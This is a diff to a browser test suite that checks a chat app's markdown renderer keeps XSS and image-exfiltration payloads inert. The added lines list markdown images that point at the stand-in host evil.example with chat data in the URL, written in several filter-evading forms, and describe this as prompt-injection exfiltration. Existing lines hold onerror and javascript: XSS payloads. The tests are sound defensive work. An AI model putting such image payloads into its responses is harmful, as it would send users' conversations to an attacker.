@@ -50,6 +50,11 @@ const xssPayloads = [
   '`<img src=x onerror=__xss()>`',
   '&lt;img src=x onerror=__xss()&gt;',
   '| a | <img src=x onerror=__xss()> |\n|---|---|\n| [x](javascript:__xss()) | ![y](javascript:__xss()) |',
+  // Prompt-injection exfiltration: an image that loads by itself sends the URL's data away.
+  '![leak](https://evil.example/collect?chat=secret)',
+  '![leak](//evil.example/collect?chat=secret)',
+  '![leak](/\\evil.example/collect?chat=secret)',
+  '![leak][img]\n\n[img]: https://evil.example/collect?chat=secret',
 ].join('\n\n');
 
 /** Everything in #root that could run script or navigate somewhere dangerous. */
@@ -66,6 +71,8 @@ function auditDom(): string[] {
         const protocol = new URL(attr.value, location.href).protocol;
         if (!['http:', 'https:', 'mailto:'].includes(protocol)) problems.push(`${attr.name}="${attr.value}" on <${tag}>`);
       }
+      // Images load by themselves: only the page's own origin (the default image policy).
+      if (tag === 'img' && attr.name === 'src' && new URL(attr.value, location.href).origin !== location.origin) problems.push(`cross-origin <img src="${attr.value}">`);
     }
   }
   return problems;
@@ -145,6 +152,23 @@ describe('StreamingMarkdown in Chromium: XSS payloads render inert', () => {
     expect(problems).toEqual([]);
     expect(await page.evaluate(auditDom)).toEqual([]);
     expect(await page.evaluate(() => window.__xssFired ?? 0)).toBe(0);
+    await page.close();
+  });
+
+  it('requests no cross-origin image (however the URL is written) and keeps same-origin ones', async () => {
+    const page = await freshPage();
+    const requested: string[] = [];
+    page.on('request', (request) => requested.push(request.url()));
+    await page.route('**/evil.example/**', (route) => route.fulfill({ status: 204 }));
+    const markdown = '![ours](/pixel.png) ![a](https://evil.example/a?d=1) ![b](//evil.example/b) ![c](/\\evil.example/c) ![d](HTTPS://EVIL.example/d) ![e](https:evil.example/e)';
+    await page.evaluate((md) => window.__ask.renderMarkdown(md), markdown);
+    await page.waitForTimeout(300);
+    expect(requested.filter((url) => url.includes('evil.example'))).toEqual([]);
+    const origin = new URL(server.url).origin;
+    expect(await page.$$eval('#root img', (imgs) => imgs.map((img) => (img as HTMLImageElement).src))).toEqual([`${origin}/pixel.png`]);
+    const links = await page.$$eval('#root a.ask-md-image-link', (as) => as.map((a) => (a as HTMLAnchorElement).href));
+    expect(links).toHaveLength(5);
+    expect(links.every((href) => new URL(href).hostname === 'evil.example')).toBe(true);
     await page.close();
   });
 
